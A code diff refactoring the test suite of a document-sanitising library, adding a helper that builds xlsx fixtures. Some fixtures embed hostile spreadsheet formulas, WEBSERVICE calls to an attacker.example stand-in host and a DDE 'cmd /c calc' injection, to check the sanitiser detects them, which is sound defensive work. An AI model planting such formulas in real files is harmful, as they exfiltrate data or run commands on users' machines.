@@ -16,12 +16,50 @@ import {
   OOXML_MAIN_TYPES,
   RELATIONSHIP_TYPES,
 } from '@disarm/fixtures';
-import type { OoxmlExtension } from '@disarm/fixtures';
+import type { OoxmlExtension, OpcPart } from '@disarm/fixtures';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
 import { disarm } from '../../disarm.ts';
 import { isDisarmError } from '../../errors.ts';
-import type { CleanedOutcome, Outcome } from '../../outcome.ts';
+import { cleaned, findingsOf } from '../../test-support.ts';
+
+const SML_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+const R_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const WORKSHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
+
+/**
+ * An xlsx whose workbook lists these worksheets in order (`xl/worksheets/sheetN.xml`, relationship
+ * `rIdN`), with any other parts they use.
+ */
+function workbookOf(
+  sheets: readonly Omit<OpcPart, 'name' | 'contentType'>[],
+  parts: readonly OpcPart[] = [],
+): Promise<Buffer> {
+  const listed = sheets
+    .map((_, i) => `<sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`)
+    .join('');
+  return buildOpcPackage(
+    [
+      {
+        name: 'xl/workbook.xml',
+        contentType: OOXML_MAIN_TYPES.xlsx,
+        data: `<workbook xmlns="${SML_NS}" xmlns:r="${R_NS}"><sheets>${listed}</sheets></workbook>`,
+        relationships: sheets.map((_, i) => ({
+          id: `rId${i + 1}`,
+          type: RELATIONSHIP_TYPES.worksheet,
+          target: `worksheets/sheet${i + 1}.xml`,
+        })),
+      },
+      ...sheets.map((sheet, i) => ({
+        ...sheet,
+        name: `xl/worksheets/sheet${i + 1}.xml`,
+        contentType: WORKSHEET_TYPE,
+      })),
+      ...parts,
+    ],
+    [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
+  );
+}
 
 let dir: string;
 beforeAll(async () => {
@@ -30,13 +68,6 @@ beforeAll(async () => {
 afterAll(async () => {
   await rm(dir, { recursive: true, force: true });
 });
-
-function cleaned(outcome: Outcome): CleanedOutcome {
-  if (outcome.status !== 'cleaned') {
-    throw new Error(`expected cleaned, got ${outcome.reason}: ${outcome.detail}`);
-  }
-  return outcome;
-}
 
 /** The package as Info-ZIP sees it: member names, and every member's text. */
 async function unzipped(bytes: Uint8Array): Promise<{ names: string[]; text: string }> {
@@ -47,9 +78,6 @@ async function unzipped(bytes: Uint8Array): Promise<{ names: string[]; text: str
   const text = execFileSync('unzip', ['-p', path], { encoding: 'latin1', maxBuffer: 1 << 26 });
   return { names, text };
 }
-
-const findingsOf = (outcome: CleanedOutcome): Record<string, number> =>
-  Object.fromEntries(outcome.findings.map((finding) => [finding.kind, finding.count]));
 
 const EXTENSIONS = Object.keys(OOXML_MAIN_TYPES) as OoxmlExtension[];
 
@@ -218,8 +246,6 @@ describe('OOXML rebuild', () => {
 
   it('finds a refused formula however it is spelled around markup, references and spaces', async () => {
     const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
-    const worksheetType =
-      'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
     // Each spelling parses to a formula that calls out; a byte-level search for "CALL(" or
     // "WEBSERVICE(" in the part would miss every one.
     const spellings = [
@@ -232,25 +258,10 @@ describe('OOXML rebuild', () => {
       '_xlfn.WEBSERVICE\u2003("http://attacker.example/")',
       "SUM(1,2)+cmd&#124;'/c calc'!A0",
     ];
-    const input = await buildOpcPackage(
-      [
-        {
-          name: 'xl/workbook.xml',
-          contentType: OOXML_MAIN_TYPES.xlsx,
-          data: `<workbook xmlns="${S}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${spellings.map((_, i) => `<sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</sheets></workbook>`,
-          relationships: spellings.map((_, i) => ({
-            id: `rId${i + 1}`,
-            type: RELATIONSHIP_TYPES.worksheet,
-            target: `worksheets/sheet${i + 1}.xml`,
-          })),
-        },
-        ...spellings.map((formula, i) => ({
-          name: `xl/worksheets/sheet${i + 1}.xml`,
-          contentType: worksheetType,
-          data: `<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1"><f>SUM(A2:A3)</f><v>0</v></c><c r="B1"><f>${formula}</f><v>1</v></c></row></sheetData></worksheet>`,
-        })),
-      ],
-      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
+    const input = await workbookOf(
+      spellings.map((formula) => ({
+        data: `<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1"><f>SUM(A2:A3)</f><v>0</v></c><c r="B1"><f>${formula}</f><v>1</v></c></row></sheetData></worksheet>`,
+      })),
     );
     const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
     expect(findingsOf(outcome)).toEqual({
@@ -276,24 +287,7 @@ describe('OOXML rebuild', () => {
       '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations count="1"><x14:dataValidation type="list">' +
       '<x14:formula1><xm:f>_xlfn.WEBSERVICE("http://attacker.example/x14")</xm:f></x14:formula1><xm:sqref>E1</xm:sqref>' +
       '</x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>';
-    const input = await buildOpcPackage(
-      [
-        {
-          name: 'xl/workbook.xml',
-          contentType: OOXML_MAIN_TYPES.xlsx,
-          data: `<workbook xmlns="${S}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-          relationships: [
-            { id: 'rId1', type: RELATIONSHIP_TYPES.worksheet, target: 'worksheets/sheet1.xml' },
-          ],
-        },
-        {
-          name: 'xl/worksheets/sheet1.xml',
-          contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
-          data: sheet,
-        },
-      ],
-      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
-    );
+    const input = await workbookOf([{ data: sheet }]);
     const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
     expect(findingsOf(outcome)).toEqual({ 'external-relationship': 2, 'dde-link': 1 });
     const { text } = await unzipped(outcome.bytes);
@@ -519,19 +513,9 @@ describe('OOXML rebuild', () => {
   it('empties legacy VML that is not well-formed instead of refusing the workbook', async () => {
     const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
     const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-    const input = await buildOpcPackage(
+    const input = await workbookOf(
       [
         {
-          name: 'xl/workbook.xml',
-          contentType: OOXML_MAIN_TYPES.xlsx,
-          data: `<workbook xmlns="${S}" xmlns:r="${R}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-          relationships: [
-            { id: 'rId1', type: RELATIONSHIP_TYPES.worksheet, target: 'worksheets/sheet1.xml' },
-          ],
-        },
-        {
-          name: 'xl/worksheets/sheet1.xml',
-          contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
           data: `<worksheet xmlns="${S}" xmlns:r="${R}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Kept</t></is></c></row></sheetData><legacyDrawing r:id="rId1"/></worksheet>`,
           relationships: [
             {
@@ -541,13 +525,14 @@ describe('OOXML rebuild', () => {
             },
           ],
         },
+      ],
+      [
         {
           name: 'xl/drawings/vmlDrawing1.vml',
           contentType: 'application/vnd.openxmlformats-officedocument.vmlDrawing',
           data: '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><div>note<br></div></v:shape></xml>',
         },
       ],
-      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
     );
     const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
     expect(findingsOf(outcome)).toEqual({ 'hidden-data': 1 });
@@ -559,19 +544,9 @@ describe('OOXML rebuild', () => {
   it('removes references to dropped parts, VML o:relid included, so none dangles', async () => {
     const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
     const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-    const input = await buildOpcPackage(
+    const input = await workbookOf(
       [
         {
-          name: 'xl/workbook.xml',
-          contentType: OOXML_MAIN_TYPES.xlsx,
-          data: `<workbook xmlns="${S}" xmlns:r="${R}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-          relationships: [
-            { id: 'rId1', type: RELATIONSHIP_TYPES.worksheet, target: 'worksheets/sheet1.xml' },
-          ],
-        },
-        {
-          name: 'xl/worksheets/sheet1.xml',
-          contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
           data: `<worksheet xmlns="${S}" xmlns:r="${R}"><sheetData/><legacyDrawing r:id="rId1"/></worksheet>`,
           relationships: [
             {
@@ -581,6 +556,8 @@ describe('OOXML rebuild', () => {
             },
           ],
         },
+      ],
+      [
         {
           name: 'xl/drawings/vmlDrawing1.vml',
           contentType: 'application/vnd.openxmlformats-officedocument.vmlDrawing',
@@ -591,7 +568,6 @@ describe('OOXML rebuild', () => {
         },
         { name: 'xl/media/image1.emf', contentType: 'image/x-emf', data: 'EMF' },
       ],
-      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
     );
     const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
     expect(findingsOf(outcome)).toEqual({ 'hidden-data': 1 });
